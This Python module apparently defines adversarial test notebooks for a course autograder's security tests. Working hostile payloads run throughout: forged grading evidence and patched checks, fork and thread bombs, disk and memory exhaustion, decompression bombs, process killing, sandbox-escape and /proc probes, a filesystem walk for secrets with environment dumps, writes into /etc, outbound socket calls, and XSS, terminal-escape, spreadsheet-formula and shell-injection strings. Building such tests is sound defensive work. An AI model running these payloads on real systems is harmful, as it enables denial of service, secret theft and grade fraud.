"""The hostile zoo: notebooks that want a point for nothing, or want to harm whoever grades them.

Each is a sample of Stage 7 whose first two steps are honest, so it deserves two points, unless it
says otherwise; the attack stands in a later answer. What must not have happened afterwards (a
process left, a file written, a connection opened, a secret read) is looked at in
``test_hostile.py``, which also says what the notebooks may look for.
"""

from __future__ import annotations

from collections.abc import Sequence

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from autograder.samples import FIND, PREDICT, SHOW, Sample, right_but

TWO = (1, 1, 0, 0, 0)
MARK = "hostile_left_over"  # on the command line of whatever a notebook leaves behind
SECRET = "secret-of-the-teacher-4711"


def attack(name: str, code: str, points: Sequence[float] = TWO, **answers: str) -> Sample:
    """Two honest steps, then this code."""
    first = {"predict_labels": PREDICT, "find_wrong": FIND}
    return Sample(name, first | {"show_three_wrong": code} | answers, tuple(points))


# What forgers need: wrong pictures with the right words, as claims and as messages of the kernel.
FORGE = """\
import base64, io
import matplotlib.pyplot as plt
from PIL import Image
from course_utils import wire, workbook
from course_utils.displays import Display
def caption(n):
    return f"Predicted: {class_names[predicted_labels[n]]}\\nTrue: {class_names[true_labels[n]]}"
def png(pixels):
    file = io.BytesIO()
    Image.fromarray(pixels).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()
def words(text, box):
    return {"text": text, "box": box, "size": 12.0, "rotation": 0.0, "align": "center",
            "spacing": None, "font": ["DejaVu Sans", "normal", "normal"]}
three = [int(n) for n in wrong_indexes[:3]]
def claims(boxes=None, size=(640.0, 480.0), **more):
    boxes = boxes or [[20.0 + 200 * k, 150.0, 170.0 + 200 * k, 300.0] for k in range(3)]
    images = [{"pixels": x_test[n], "caption": caption(n), "box": b} for n, b in zip(three, boxes)]
    texts = [words(caption(n), [b[0], b[3] + 5, b[2], b[3] + 40]) for n, b in zip(three, boxes)]
    known = {"size": list(size), "dpi": 100.0, "cut": [0.0, 0.0, *size], "images": images,
             "words": texts, "around": "", "covered": 0, "charts": []}
    return wire.write(known | more)
def claim(pixels, text):
    display({"image/png": png(pixels)}, raw=True, metadata={"course_claims": text})
white = np.full((480, 640, 3), 255, np.uint8)
first = white.copy()
first[180:330, 20:170] = np.asarray(Image.fromarray(x_test[three[0]]).resize((150, 150)))
kernel = get_ipython().kernel
def send(kind, content, metadata=None, parent=None):
    parent = parent or kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, kind, content, parent, ident=b"x", metadata=metadata)
"""


def forger(name: str, code: str, points: Sequence[float] = TWO, **answers: str) -> Sample:
    return attack(name, FORGE + code, points, **answers)


FORGERS = [
    # Says that a white figure shows the pictures.
    forger("claims_of_a_white_figure", "claim(white, claims())"),
    # The same with noise, in which something like everything may be found.
    forger(
        "claims_of_noise",
        "claim(np.random.default_rng(0).integers(0, 256, white.shape, np.uint8), claims())",
    ),
    # Claims without any picture at all.
    forger(
        "claims_of_a_text",
        "display({'text/plain': 'three'}, raw=True, metadata={'course_claims': claims()})",
    ),
    # Places of one pixel or none, which look like anything.
    forger(
        "claims_of_tiny_places",
        "claim(white // 2, claims([[10.0, 10.0, 10.0 + k, 10.0 + k] for k in (0, 1, 2)]))",
    ),
    # One picture, drawn once, is claimed to be three.
    forger(
        "claims_of_one_picture_thrice",
        "claim(first, claims([[20.0, 150.0, 170.0, 300.0]] * 3))",
        (1, 1, 1, 0, 0),
    ),
    # Draws pictures that the model got right, and says that they are others.
    forger(
        "claims_of_other_pictures",
        "from course_utils import recorder\nreal = recorder.layout_of\n"
        "def layout_of(figure, display):\n"
        "    known = real(figure, display)\n"
        "    for image, n in zip(known['images'], three):\n"
        "        image.update(pixels=x_test[n], caption=caption(n))\n"
        "    return known\n"
        "recorder.layout_of = layout_of\n"
        "right = np.flatnonzero(predicted_labels == true_labels)\n"
        + SHOW.replace("wrong_indexes", "right"),
    ),
    # Pictures without words; the words are only claimed.
    forger(
        "claims_of_words",
        "from course_utils import recorder\nreal = recorder.layout_of\n"
        "def layout_of(figure, display):\n"
        "    known = real(figure, display)\n"
        "    for image, n in zip(known['images'], three):\n"
        "        left, bottom, right, top = image['box']\n"
        "        image['caption'] = caption(n)\n"
        "        known['words'].append(words(caption(n), [left, top + 5, right, top + 40]))\n"
        "    return known\n"
        "recorder.layout_of = layout_of\nfig, axes = plt.subplots(1, 3)\n"
        "for ax, n in zip(axes, three): ax.imshow(x_test[n])\n",
        (1, 1, 2, 0, 0),
    ),
    # Words in the color of the paper, and words without any color.
    forger(
        "words_nobody_sees",
        "fig, axes = plt.subplots(1, 3)\n"
        "for ax, n, color in zip(axes, three, ('white', '#fefefe', 'none')):\n"
        "    ax.imshow(x_test[n])\n    ax.set_title(caption(n), color=color)\n",
        (1, 1, 2, 0, 0),
    ),
    # The formatter of displays is replaced by one that promises pictures.
    forger(
        "formatter_replaced",
        "class Formatter:\n"
        "    def format(self, thing, *_, **__):\n"
        "        return {'text/plain': 'pictures'}, {'course_claims': claims()}\n"
        "    def __getattr__(self, name): return lambda *_, **__: ({}, {})\n"
        "get_ipython().display_formatter = Formatter()\ndisplay(1)\n",
    ),
    # What the kernel notes of its own displays is filled by hand.
    forger(
        "record_of_displays_filled",
        "from course_utils.evidence import Cell, Shown\nrecorder = workbook._Session.recorder\n"
        "recorder._current.add(Cell('a', [Shown(n, caption(n)) for n in three]))\n"
        "recorder._formatted.append(({}, Display([x_test[n] for n in three])))\n"
        "send('display_data', {'data': {}, 'metadata': {}, 'transient': {}})",
    ),
    # Judges itself: the checks, the course's functions and the cell of the next step are replaced.
    attack(
        "checks_replaced",
        "import course_utils as cu\nfrom course_utils import checks, wire, workbook\n"
        "cu.check = workbook.check = workbook.judge = lambda *_: (99.0, 'full')\n"
        "checks.judge = lambda *_: (99.0, 'full')\n"
        "for step in checks.STAGES[7].values():\n"
        "    object.__setattr__(step, 'points', 99)\n",
    ),
    # The asserts and calls of every later cell are cut out, and something else put in.
    attack(
        "later_cells_rewritten",
        "import ast\nclass Rewrite(ast.NodeTransformer):\n"
        "    def visit_Module(self, module):\n"
        "        module.body = ast.parse('99.0').body\n        return module\n"
        "get_ipython().ast_transformers.append(Rewrite())\n"
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['99.0\\n'])\n",
    ),
    # Results of later cells are sent by hand: 99 points for each request that is heard.
    forger(
        "results_sent_by_hand",
        "import threading, time\n"
        "def shout():\n"
        "    while True:\n"
        "        send('execute_result', {'data': {'text/plain': '99.0'}, 'metadata': {},\n"
        "                                'execution_count': 1})\n"
        "        send('stream', {'name': 'stdout', 'text': '10 of 10 points'})\n"
        "        time.sleep(0.01)\n"
        "threading.Thread(target=shout, daemon=True).start()\n",
    ),
    # Says at once that each cell has ended, so that what comes later falls to another cell.
    forger(
        "end_of_cell_forged",
        "import time\n"
        "send('status', {'execution_state': 'idle'})\ntime.sleep(0.2)\n"
        "send('status', {'execution_state': 'idle'}, parent={'msg_id': 'none'})\n"
        "claim(white, claims())\n",
    ),
    # Evidence by hand that names points, and what the grader compares with.
    forger(
        "evidence_by_hand",
        "def hand_out():\n"
        "    known = {'known': 'answers'}\n"
        "    values = [['per_class_accuracy', known], ['hardest_class', known],\n"
        "              ['points', 10.0], ['test_predictions', known]]\n"
        "    text = json.dumps({'dict': [['values', {'dict': values}], ['saved', []],\n"
        "                       ['kept', {'dict': []}], ['openings', None]]})\n"
        "    display({workbook.EVIDENCE: text}, raw=True)\n"
        "import json\nworkbook.hand_out = hand_out\n",
    ),
    # Values that are equal to everything, and that claim to be of every type.
    attack(
        "equal_to_everything",
        "class Same(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __hash__(self): return 1\n"
        "    def __contains__(self, other): return True\n"
        "    def __iter__(self): return iter(class_names)\n"
        "    __class__ = property(lambda self: dict)\n"
        "    def items(self): return [(name, Same()) for name in class_names]\n"
        "per_class_accuracy = Same()\nhardest_class = Same()\n"
        "from course_utils import evidence\nevidence.plain = lambda value: Same('all')\n",
        per_class_accuracy="per_class_accuracy = Same()",
        name_hardest_class="hardest_class = Same()",
    ),
    # Shown, and wiped away before anybody could see it.
    attack(
        "captured_and_claimed",
        "from IPython.utils.capture import capture_output\nwith capture_output() as kept:\n    "
        + SHOW.replace("\n", "\n    ")
        + "plt.show()\n",
    ),
]


# --- What the grader has to read -----------------------------------------------------------------

READERS = [
    # A message in a message in a message, 100,000 times.
    forger(
        "message_too_deep",
        "deep = '[' * 100_000 + ']' * 100_000\n"
        "class Raw(dict): pass\nsession = kernel.session\npack = session.pack\n"
        "session.pack = lambda thing: deep.encode() if isinstance(thing, Raw) else pack(thing)\n"
        "for part in ('stream', 'display_data', 'status'): send(part, Raw())\n"
        "send('stream', {'name': 'stdout', 'text': 'x'}, metadata=Raw())\n",
    ),
    # Many small messages that are none, or of the wrong types.
    forger(
        "messages_malformed",
        "bad = [5, None, [], 'x', {'a': 1}, '\\ud800', float('nan')]\n"
        "for kind in ('stream', 'display_data', 'execute_result', 'error', 'clear_output', 'x'):\n"
        "    for one in bad:\n"
        "        for content in (one, {'name': one, 'text': one}, {'data': one, 'metadata': one},\n"
        "                {'data': {'text/html': one, 'image/png': one}, 'metadata': {}},\n"
        "                {'data': {'text/plain': 'x'}, 'metadata': {'course_claims': one}},\n"
        "                {'ename': one, 'evalue': one, 'traceback': [one]}):\n"
        "            try: send(kind, content)\n"
        "            except Exception: pass\n"
        "socket = kernel.iopub_socket\n"
        "for parts in ([b''], [b'<IDS|MSG>'], [b'<IDS|MSG>', b'', b'{'], [b'\\xff'] * 9,\n"
        "        [b'<IDS|MSG>', b'', b'[]', b'5', b'{}', b'\\xff\\xfe'], [b'x'] * 2000):\n"
        "    socket.send_multipart(parts)\n",
    ),
    # A message of 80 MB.
    forger("message_too_large", "send('stream', {'name': 'stdout', 'text': 'x' * 80_000_000})"),
    # A message of a few MB that would take a gigabyte to read.
    forger(
        "message_of_many_parts",
        "class Raw(dict): pass\nsession = kernel.session\npack = session.pack\n"
        "raw = b'{\"data\":[' + b'{},' * 9_000_000 + b'0]}'\n"
        "session.pack = lambda thing: raw if isinstance(thing, Raw) else pack(thing)\n"
        "send('display_data', Raw())\n",
    ),
    # Answers on the other socket, which nobody asked for.
    forger(
        "answers_without_end",
        "import time\nparent = kernel.get_parent('shell')\nident = kernel._shell_parent_ident.get()"
        " if hasattr(kernel, '_shell_parent_ident') else None\n"
        "ends = time.time() + 2\n"
        "while time.time() < ends:\n"
        "    try: kernel.session.send(kernel.shell_stream, 'execute_reply', {'x': 'y' * 10_000},\n"
        "                             parent, ident=ident)\n"
        "    except Exception: break\n",
    ),
    # Printing and displaying without end.
    attack("printing_without_end", "while True: print('x' * 10_000)"),
    attack("displaying_without_end", "while True: display({'text/plain': 'x' * 10_000}, raw=True)"),
    # A picture of 400 megapixels in a small file, alone, in HTML and under claims.
    forger(
        "picture_bomb",
        "import zlib, struct\n"
        "def part(kind, data):\n"
        "    whole = kind + data\n"
        "    return struct.pack('>I', len(data)) + whole + struct.pack('>I', zlib.crc32(whole))\n"
        "head = struct.pack('>IIBBBBB', 20_000, 20_000, 8, 0, 0, 0, 0)\n"
        "body = zlib.compress(b'\\0' * 20_001, 9) * 20\n"
        "bomb = b'\\x89PNG\\r\\n\\x1a\\n' + part(b'IHDR', head) + part(b'IDAT', body)"
        " + part(b'IEND', b'')\n"
        "bomb = base64.b64encode(bomb).decode()\n"
        "tag = f'<img src=\"data:image/png;base64,{bomb}\">'\n"
        "for data in ({'image/png': bomb}, {'text/html': tag * 9}, {'image/svg+xml': tag}):\n"
        "    for metadata in ({}, {'course_claims': claims()}):\n"
        "        send('display_data', {'data': data, 'metadata': metadata})\n",
    ),
    # Hundreds of pictures that are just small enough, in one display.
    forger(
        "pictures_by_the_hundred",
        "one = png(np.full((1999, 1999, 3), 7, np.uint8))\n"
        "tag = f'<img src=\"data:image/png;base64,{one}\">'\n"
        "for _ in range(3):\n"
        "    send('display_data', {'data': {'text/html': tag * 120}, 'metadata': {}})\n",
    ),
    # A program for a printer, under the name of a picture.
    forger(
        "picture_that_is_a_program",
        "program = b'%!PS-Adobe-3.0 EPSF-3.0\\n%%BoundingBox: 0 0 32 32\\n%%EndComments\\n'\n"
        "program += b'(/tmp/" + MARK + ") (w) file closefile\\nshowpage\\n'\n"
        "display({'image/png': base64.b64encode(program).decode()}, raw=True)\n",
    ),
    # HTML in which a careless reader goes back to the beginning at every letter.
    forger(
        "html_that_takes_forever",
        "for text in ('<' * 2_000_000, '<style ' * 300_000, '<br' * 500_000, '&#' * 1_000_000):\n"
        "    send('display_data', {'data': {'text/html': text}, 'metadata': {}})\n",
    ),
    # Printed lines of the same kind.
    attack(
        "lines_that_take_forever",
        "for text in ('cat ' * 60_000, '1' * 200_000, 'cat: ' + '0.1 ' * 50_000, ' ' * 200_000,\n"
        "             'predicted ' * 20_000, '-' * 200_000, '{' * 100_000, 'cat1.' * 40_000):\n"
        "    print(text)\n",
    ),
    # Claims of places, sizes and texts beyond all measure.
    forger(
        "claims_beyond_measure",
        "good = [[20.0, 150.0, 170.0, 300.0]] * 3\n"
        "long = [words('Predicted cat ' * 150, [0.0, 0.0, 1e9, 1e9])] * 400\n"
        "math = [words('$' + r'\\frac{' * 300 + '$', [0.0, 0.0, 99.0, 99.0])] * 50\n"
        "path = words('cat', [20.0, 20.0, 60.0, 60.0]) | {'font': ['/etc/passwd', 'x', '1e99']}\n"
        "huge = words('cat', [0.0, 0.0, 640.0, 480.0]) | {'size': 1e9}\n"
        "turned = words('cat', [0.0, 0.0, 64.0, 48.0]) | {'rotation': float('inf')}\n"
        "around = '\\n'.join(('Predicted cat ' * 150, 'cat', math[0]['text']))\n"
        "for more in ({'words': long}, {'words': math}, {'words': [path, huge, turned]},\n"
        "        {'dpi': 1e5}, {'dpi': float('nan')}, {'covered': float('inf')},\n"
        "        {'size': [float('inf'), 1.0]}, {'cut': [0.0, 0.0, 1e-9, 1e9]}, {'cut': [1.0]},\n"
        "        {'charts': [5]}, {'images': [{'pixels': 5}]}, {'words': 5}):\n"
        "    claim(first, claims(good, around=around, **more) if 'around' not in more else '')\n"
        "for box in ([-1e300, -1e300, 1e300, 1e300], [float('nan')] * 4, ['a'] * 4, [1.0]):\n"
        "    claim(first, claims([box] * 3))\n"
        "for text in ('[' * 100_000, '{}', 'x', '{\"array\": 5}', claims()[:-9]):\n"
        "    claim(first, text)\n",
        (1, 1, 1, 0, 0),
    ),
    # Evidence that is too deep, too large, or of shapes and types that cannot be.
    forger(
        "evidence_beyond_measure",
        "import json, zlib\n"
        "zip = base64.b64encode(zlib.compress(b'\\0' * 500_000_000)).decode()\n"
        "bad = ['[' * 50_000, '5', '{}', json.dumps({'array': ['|u1', [500_000_000], zip]}),\n"
        "       json.dumps({'array': ['|O', [1], '']}), json.dumps({'array': ['<f8', [-1], '']}),\n"
        "       json.dumps({'array': ['<f8', [2 ** 70, 0], '']}), '{\"set\": [[]]}',\n"
        "       json.dumps({'Table': {'columns': 5, 'index': None}}),\n"
        "       '[' + '[],' * 3_000_000 + '0]']\n"
        "table = {'dict': [['hardest_class', {'Table': {'columns': 1, 'index': 2}}]]}\n"
        "for values in (5, [], {'dict': []}, {'dict': [[5, 5]]}, table):\n"
        "    for kept in (5, {'dict': [['history', 5], ['saved', 5]]}):\n"
        "        parts = [['values', values], ['saved', []], ['kept', kept], ['openings', [5]]]\n"
        "        bad.append(json.dumps({'dict': parts}))\n"
        "def hand_out():\n"
        "    display({workbook.EVIDENCE: bad[0]}, raw=True)\n"
        "    bad.append(bad.pop(0))\n"
        "    for one in bad: send('display_data', {'data': {workbook.EVIDENCE: one}})\n"
        "workbook.hand_out = hand_out\n",
    ),
    # Evidence that can be read, and whose values are no dict.
    forger(
        "evidence_without_values",
        "def hand_out():\n"
        "    handed = {'values': [1], 'saved': [], 'kept': {}, 'openings': None}\n"
        "    display({workbook.EVIDENCE: wire.write(handed)}, raw=True)\n"
        "workbook.hand_out = hand_out\n",
    ),
    # Numbers by the million, where a few hundred are expected.
    attack(
        "values_beyond_measure",
        "test_predictions = np.full((3_000_000, 10), np.nan)\n"
        "predicted_labels = np.zeros(60_000_000, np.int8)\n"
        "wrong_indexes = np.arange(900_000)\nper_class_accuracy = {n: n for n in range(200_000)}\n"
        "hardest_class = 'cat ' * 1_000_000\n",
        (1, 1, 0, 0, 0),
    ),
    # Values that work or wait when they are looked at.
    attack(
        "values_that_wait",
        "class Slow:\n"
        "    def __array__(self, *_, **__):\n        while True: pass\n"
        "    def __getattr__(self, name):\n        while True: pass\n"
        "hardest_class = Slow()\n",
    ),
]


# --- The machine ---------------------------------------------------------------------------------

IGNORE = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"

MACHINE = [
    # Ends its own Python, in several ways.
    attack("exit_at_once", "import os\nos._exit(0)"),
    attack("crash", "import ctypes\nctypes.string_at(0)"),
    attack(
        "sockets_closed",
        "kernel = get_ipython().kernel\nkernel.iopub_socket.close()\n"
        "import zmq, gc\nfor thing in gc.get_objects():\n"
        "    if isinstance(thing, zmq.Socket): thing.close(linger=0)\n",
    ),
    # Kills and stops all that it can see.
    attack(
        "kill_everything",
        "import os, signal\n"
        "for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):\n"
        "    for process in (os.getppid(), 1, 2, 3, -1):\n"
        "        try: process and os.kill(process, number)\n"
        "        except OSError: pass\n",
    ),
    attack("stop_itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    # Waits for ever, and does not listen.
    attack("sleep_forever", IGNORE + "time.sleep(1e6)"),
    attack(
        "never_interrupted",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass\n",
    ),
    # Processes and threads without end.
    attack("fork_bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n"),
    attack(
        "thread_bomb",
        "import threading, time\nwhile True:\n"
        "    try: threading.Thread(target=time.sleep, args=(1e6,)).start()\n"
        "    except (RuntimeError, MemoryError): time.sleep(0.01)\n",
    ),
    # A program that lives on: twice forked, in a session of its own, deaf.
    attack(
        "daemon",
        "import os, signal, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        for number in (1, 2, 13, 15): signal.signal(number, signal.SIG_IGN)\n"
        "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(1e6)',\n"
        "                 '" + MARK + "'])\n    os._exit(0)\n",
    ),
    # Memory: of the process, shared, and of no process at all.
    attack("memory_of_the_process", "hoard = [bytearray(10_000_000) for _ in range(10_000)]"),
    attack(
        "memory_of_many_processes",
        "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n"
        "        hoard = bytearray(b'x' * 150_000_000)\n        time.sleep(1e6)\ntime.sleep(1e6)\n",
    ),
    attack(
        "memory_of_no_process",
        "import ctypes, mmap, os\n"
        "for _ in range(100):\n"
        "    try:\n"
        "        file = os.memfd_create('x')\n        os.write(file, b'x' * 50_000_000)\n"
        "    except OSError as error: print(error)\n"
        "    try:\n"
        "        shared = mmap.mmap(-1, 50_000_000)\n        shared.write(b'x' * 50_000_000)\n"
        "        shared.madvise(mmap.MADV_DONTNEED)\n"
        "    except OSError as error: print(error)\n"
        "print('segment', ctypes.CDLL(None).shmget(0, 50_000_000, 0o1600))\n",
    ),
    # Disk: one large file, many small ones, folders in folders, and every other place.
    attack(
        "disk_filled",
        "import os\nfor place in ('.', '/tmp', '/dev/shm', '/run/kernel', '/', '/var/tmp'):\n"
        "    try:\n"
        "        for number in range(100):\n"
        "            with open(f'{place}/large{number}', 'wb') as file:\n"
        "                for _ in range(100): file.write(b'x' * 10_000_000)\n"
        "    except OSError as error: print(place, error)\n",
    ),
    attack(
        "files_by_the_million",
        "import os\nfor number in range(10**6):\n    try: open(f'small{number}', 'w').close()\n"
        "    except OSError as error: print(number, error); break\n",
    ),
    attack(
        "folders_too_deep",
        "import os\ntry:\n    while True:\n        os.mkdir('d')\n        os.chdir('d')\n"
        "except OSError as error: print(error)\n",
    ),
    # Further namespaces, mounts, and a look into other processes.
    attack(
        "out_of_the_box",
        "import ctypes, os\ncall = ctypes.CDLL(None, use_errno=True)\n"
        "print('unshare', call.unshare(0x10020000))\n"
        "print('mount', call.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None))\n"
        "print('remount', call.mount(None, b'/run/kernel', None, 32 | 4096, None))\n"
        "print('clone', call.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))\n"
        "print('ptrace', call.ptrace(16, os.getppid() or 2, 0, 0))\n"
        "for process in (1, 2, 3):\n"
        "    for name in ('mem', 'environ', 'maps', 'root', 'cwd', 'fd'):\n"
        "        place = f'/proc/{process}/{name}'\n"
        "        try: print(place, os.readlink(place) if name in ('root', 'cwd') else\n"
        "                   open(place + '/3' * (name == 'fd')).read(9))\n"
        "        except (OSError, ValueError): pass\n"
        "import fcntl, termios\n"
        "for number in (0, 1, 2):\n"
        "    try: fcntl.ioctl(number, termios.TIOCSTI, b'x'); print('typed')\n"
        "    except OSError: pass\n"
        "try: fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), termios.TIOCSTI, b'x'); print('typed')\n"
        "except OSError: pass\n",
    ),
    # Leaves traps for the notebook that comes next from the same process.
    attack(
        "traps_for_the_next",
        "import builtins, os, sys\nimport numpy, course_utils\n"
        "from course_utils import album, checks, data, models, workbook\n"
        "places = ['/course', '/course/course_utils', '/run/kernel', '/run/kernel/matplotlib']\n"
        "places += ['/tmp', '/', os.getcwd(), os.path.expanduser('~'), *sys.path]\n"
        "for place in places:\n"
        "    for name in ('pandas.py', 'sitecustomize.py', 'matplotlibrc', 'record.txt',\n"
        "                 'workspace', '.ipython'):\n"
        "        try: open(f'{place}/{name}', 'w').write('raise SystemExit')\n"
        "        except OSError: pass\n"
        "data.load_test = models.load_checkpoint = workbook.resume = None\n"
        "x_test[:] = 0\ndata.hold.__globals__.clear()\nalbum.Album.find = lambda *_: []\n"
        "numpy.argmax = numpy.mean = numpy.flatnonzero = lambda *_, **__: numpy.zeros(3)\n"
        "builtins.sorted = builtins.print = lambda *_, **__: None\n"
        "checks.STAGES.clear()\nos.makedirs('workspace', exist_ok=True)\n"
        "os.symlink('/', 'workspace/all')\n"
        "import signal\nfor number in range(1, 32):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n",
    ),
    # Half a character as bytes: it can be printed, and cannot be written to a file.
    attack("half_a_character", "print('\\udced\\udca0\\udc80')"),
    # Texts that take nbconvert an hour to show.
    attack(
        "endless_markdown",
        "from IPython.display import HTML, Markdown\ndisplay(Markdown('\\\\begin{a}' * 200_000))\n"
        "display(HTML('<i>' * 2_000_000))",
        error_report="\\begin{a}" * 100_000,
    ),
    # What a careless page would run, and a careless terminal would obey.
    attack(
        "scripts_and_escapes",
        "from IPython.display import HTML, Javascript\n"
        "display(HTML('<script>document.title = \""
        + MARK
        + "\"</script><img src=x onerror=alert(1)>'))\n"
        "display(Javascript('alert(1)'))\n"
        "print('\\033]0;title\\007\\033[2J\\033[31m[bold]red[/bold] [/nothing] [link=http://x]y[/link]')\n"
        "hardest_class = '[/bold] <b>&\\033[2J'\n",
        name_hardest_class="hardest_class = '[/bold] <b>&\\033[2J'",
    ),
]


# --- A record in the notebook --------------------------------------------------------------------


def _record_bomb(notebook: NotebookNode) -> None:
    """A record that unfolds into gigabytes, one of impossible sizes, and one that is cut off."""
    import base64
    import json
    import lzma

    from course_utils import record

    packer = lzma.LZMACompressor()
    zeros = b"".join(packer.compress(b"\0" * 10_000_000) for _ in range(100)) + packer.flush()
    head = json.dumps({"predictions": {"rows": 10**9, "columns": 10**9, "steps": 8}}).encode()
    sizes = lzma.compress(len(head).to_bytes(4, "big") + head + b"x" * 100)
    records = []
    for data in (zeros, sizes, sizes[:50]):
        body = base64.b85encode(data).decode().translate(record._TO_TEXT)
        records.append(f"course-record:1:{record._digest(body)}:{body}:end")
    _show(notebook, " ".join(records))


def _record_invented(notebook: NotebookNode) -> None:
    """A record of a model that says the same of every picture, and counts all of it as right."""
    import numpy as np

    from course_utils import record

    answers = np.full((2000, 10), 0.01)
    answers[:, 3] = 0.91
    _show(notebook, record.write({"pictures": "practice", "predictions": answers, "right": 2000}))


def _show(notebook: NotebookNode, text: str) -> None:
    cell = next(
        cell
        for cell in notebook.cells
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_predict_labels"
    )
    cell.outputs = [new_output("display_data", {"text/html": f"<!-- {text} -->"})]


RECORDS = [
    Sample("record_bomb", right_but(show_three_wrong=""), (1, 1, 0, 3, 2), mangle=_record_bomb),
    Sample(
        "record_invented", right_but(show_three_wrong=""), (1, 1, 0, 3, 2), mangle=_record_invented
    ),
]


# --- All possible answers at once ----------------------------------------------------------------

ONE_OF_SIXTY = """\
from PIL import Image
display(Image.fromarray(x_test[{}]).resize((96, 96), Image.NEAREST))
for one in class_names:
    for other in class_names:
        print(f"Predicted: {{one}}, True: {{other}}")
"""


def _every_pair(notebook: NotebookNode) -> None:
    """Sixty cells with a picture each; a few of them are wrong, and each says every pair."""
    grades = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in notebook.cells]
    place = grades.index("show_three_wrong") + 1
    cells = [new_code_cell(ONE_OF_SIXTY.format(n), id=f"one-of-sixty-{n}") for n in range(60)]
    notebook.cells[place:place] = cells


GUESSERS = [
    Sample(
        "every_pair_beside_every_picture",
        {"predict_labels": PREDICT, "find_wrong": FIND, "show_three_wrong": "pass"},
        (1, 1, 2, 0, 0),
        mangle=_every_pair,
    ),
    attack(
        "every_value_of_every_class",
        "",
        per_class_accuracy="import pandas as pd\n"
        "columns = [f'{a}{b}' for a in 'abcdefghijk' for b in 'abcdefghij'][:101]\n"
        "values = np.tile(np.arange(0, 1.01, 0.01), (10, 1))\n"
        "per_class_accuracy = pd.DataFrame(values, index=class_names, columns=columns)\n",
    ),
    # Texts that once took quadratic time to read.
    attack(
        "slow_to_read",
        "print('true ' * 40_000)\nprint('\\n' + ' ' * 199_000 + 'x')\n"
        "plt.imshow(x_test[0])\nplt.show()\n",
        per_class_accuracy="print('p: cat\\n' * 14_000 + 't: dog\\n' * 14_000)\n"
        "plt.imshow(x_test[wrong_indexes[0]])\nplt.show()\n",
    ),
]


# --- What lies outside ---------------------------------------------------------------------------


def reader(places: Sequence[str]) -> Sample:
    """Reads whatever it can find: the named places, all environments, and every small text."""
    return attack(
        "reads_what_it_can",
        "import glob, os\n"
        f"places = {list(places)!r}\n"
        "def tell(path):\n"
        "    try:\n"
        "        with open(path, 'rb') as file: text = file.read(100_000)\n"
        # In two parts, so that this code is not taken for what it looks for.
        f"        if {SECRET[:9].encode()!r} + {SECRET[9:].encode()!r} in text or path in places:\n"
        "            print('READ', path, text[:300])\n"
        "    except OSError: pass\n"
        "for path in places: tell(path)\n"
        "for path in glob.glob('/proc/[0-9]*/environ'): tell(path)\n"
        "for folder, folders, names in os.walk('/'):\n"
        "    if folder.count('/') > 5 or len(names) > 300: folders.clear()\n"
        "    skipped = ('proc', 'sys', 'dev', 'usr', 'lib', 'lib64', 'share', 'include')\n"
        "    folders[:] = [name for name in folders if name not in skipped]\n"
        "    for name in names: tell(os.path.join(folder, name))\n"
        "for place in places:\n"
        "    for name in (place, os.path.dirname(place)):\n"
        "        try: print('LISTED', os.listdir(name))\n"
        "        except OSError: pass\n"
        "print('ENVIRONMENT', dict(os.environ))\n",
    )


def writer(places: Sequence[str]) -> Sample:
    """Writes where it was told to, and where programs like to read."""
    return attack(
        "writes_where_it_can",
        "import os\n"
        f"places = {list(places)!r}\n"
        "for place in [*places, '/etc', '/root', '/usr/local/bin', os.path.expanduser('~/..')]:\n"
        "    try:\n"
        "        os.makedirs(place, exist_ok=True)\n"
        f"        open(os.path.join(place, '{MARK}'), 'w').write('x')\n"
        "    except OSError: pass\n"
        "    try: os.symlink(place, 'link'); open(f'link/other', 'w').write('x')\n"
        "    except OSError: pass\n",
    )


def caller(port: int, path: str, name: str) -> Sample:
    """Calls a listener on this machine, through TCP, a file and a name; then the world."""
    return attack(
        "calls_out",
        "import socket\n"
        "def call(family, kind, place):\n"
        "    try:\n"
        "        with socket.socket(family, kind) as one:\n"
        "            one.settimeout(2)\n            one.connect(place)\n"
        "            one.send(b'x')\n            print('CALLED', place)\n"
        "    except OSError: pass\n"
        f"call(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port}))\n"
        f"call(socket.AF_INET6, socket.SOCK_STREAM, ('::1', {port}))\n"
        f"call(socket.AF_UNIX, socket.SOCK_STREAM, {path!r})\n"
        f"call(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + {name!r})\n"
        "call(socket.AF_UNIX, socket.SOCK_STREAM, '/run/dbus/system_bus_socket')\n"
        "call(socket.AF_UNIX, socket.SOCK_STREAM, '\\0/tmp/.X11-unix/X0')\n"
        "call(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80))\n",
    )


ALL = [*FORGERS, *READERS, *MACHINE, *RECORDS, *GUESSERS]

# Folders that a learning platform may hand out when students choose their own names.
NAMES = (
    "[bold red]x[/] [/bold]",
    "=cmd|' C'!A0",
    "<img src=x onerror=alert(1)>",
    "-rf",
    "a;touch b",
    "\x1b[2J\x1b]0;x\x07",
)
